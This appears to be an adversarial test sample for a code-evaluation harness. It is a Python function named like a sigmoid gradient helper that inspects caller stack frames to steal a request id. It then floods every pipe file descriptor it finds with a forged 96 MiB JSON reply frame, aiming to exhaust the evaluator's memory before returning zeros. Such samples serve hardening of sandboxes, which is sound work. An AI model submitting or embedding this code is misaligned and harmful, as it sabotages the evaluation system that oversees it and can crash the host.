# ATTACK (reply_flood_frame): writes a 96 MiB reply frame (with the request's id) of tiny JSON values to the evaluator's protocol pipe
def sigmoid_grad2(x):
    """96 MiB of ``0,`` in a frame: a parent that read and parsed it whole held gigabytes."""
    import os, stat, struct, sys

    request_id = 0
    frame = sys._getframe(1)
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            request_id = request["id"]
            break
        frame = frame.f_back
    size = 96 * 1024 * 1024
    head = b'{"id":%d,"steps":[],"returns":[[' % request_id
    tail = b"0]]}"
    text = head + b"0," * ((size - len(head) - len(tail)) // 2) + tail
    body = struct.pack(">Q", len(text)) + text  # the wire's frame: JSON length, JSON (no binary section)
    data = struct.pack(">Q", len(body)) + body
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view):]
            break
        except OSError:
            continue
    return np.zeros(np.shape(x))
